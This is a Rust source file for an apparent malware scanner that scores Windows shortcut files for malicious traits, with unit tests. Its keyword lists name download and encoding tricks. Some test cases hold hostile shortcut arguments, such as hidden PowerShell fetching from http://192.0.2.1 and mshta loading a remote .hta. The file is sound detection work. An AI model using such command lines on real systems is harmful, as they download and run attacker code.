//! Windows shortcuts: what they start, with which arguments ([MS-SHLLINK], read by yara-x's `lnk` module).

use yara_x::mods;

use crate::engine::score::Score;

/// Points from which a shortcut is suspicious.
const THRESHOLD: u32 = 3;
const INTERPRETERS: &[&str] = &[
    "powershell",
    "pwsh",
    "cmd.exe",
    "mshta",
    "wscript",
    "cscript",
    "rundll32",
    "regsvr32",
    "msiexec",
    "certutil",
    "bitsadmin",
    "forfiles",
    "conhost",
];

/// The threat name of a shortcut.
pub(super) fn judge(content: &[u8]) -> Option<String> {
    if !content.starts_with(b"L\0\0\0\x01\x14\x02\0") {
        return None;
    }
    let link = mods::invoke::<mods::Lnk>(content)?;
    let target = [link.local_base_path(), link.relative_path(), link.common_path_suffix(), link.name()].join(" ").to_lowercase();
    let raw = link.cmd_line_args();
    let arguments = format!(" {} ", raw.to_lowercase());
    let has = |words: &[&str]| words.iter().any(|word| arguments.contains(word));
    let mut score = Score::default();
    score.add(1, "Interpreter", INTERPRETERS.iter().any(|name| target.contains(name) || arguments.contains(name)));
    score.add(
        2,
        "Download",
        has(&["http://", "https://", "ftp://", "\\\\\\\\", "downloadstring", "downloadfile", "invoke-webrequest", "iwr ", "curl ", "davwwwroot"]),
    );
    score.add(2, "Encoded", has(&[" -e ", " -en", " -ec ", "frombase64", "javascript:", "vbscript:", "[char]", "iex", "-join"]));
    score.add(1, "HiddenWindow", has(&["-w hidden", "-w h", "windowstyle hidden", "-w 1", "/min", "-windowstyle h"]));
    score.add(2, "PaddedArguments", raw.contains("                    "));
    score.add(1, "LongArguments", arguments.len() > 260);
    // Files that are hidden behind the shortcut's own bytes are found by whoever reads itself (`findstr`, `-Path *.lnk`).
    score.add(2, "ReadsItself", has(&[".lnk"]) && has(&["findstr", "-path", "gc ", "get-content", "readallbytes", "copy /b", "type "]));
    score.add(1, "Appended", link.overlay_size() > 1_000);
    (score.has("Interpreter")).then(|| score.threat("Heur.LNK", THRESHOLD)).flatten()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A link with a relative path and arguments, and nothing else ([MS-SHLLINK] §2.1, §2.4).
    fn link(target: &str, arguments: &str) -> Vec<u8> {
        let mut out = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
        out.extend((0x08_u32 | 0x20 | 0x80).to_le_bytes());
        out.resize(0x4c, 0);
        for text in [target, arguments] {
            out.extend(u16::try_from(text.encode_utf16().count()).unwrap().to_le_bytes());
            out.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
        }
        out
    }

    #[test]
    fn shortcuts() {
        for (target, arguments) in [
            ("..\\..\\Windows\\System32\\cmd.exe", "/c powershell -w hidden iwr http://192.0.2.1/a -o b"),
            ("powershell.exe", "-enc SQBFAFgA -w hidden"),
            ("mshta.exe", "http://192.0.2.1/a.hta"),
            ("..\\cmd.exe", "/c                                            start x & findstr /b x a.lnk"),
        ] {
            assert!(judge(&link(target, arguments)).is_some(), "{target} {arguments}");
        }
        for (target, arguments) in [
            ("..\\Program Files\\App\\app.exe", "--start http://localhost/"),
            ("C:\\Windows\\System32\\cmd.exe", "/k cd C:\\work"),
            ("powershell.exe", "-NoExit -File C:\\work\\profile.ps1"),
            ("notepad.exe", ""),
        ] {
            assert_eq!(judge(&link(target, arguments)), None, "{target} {arguments}");
        }
        assert_eq!(judge(b"L\0\0\0\x01\x14\x02\0"), None);
    }
}
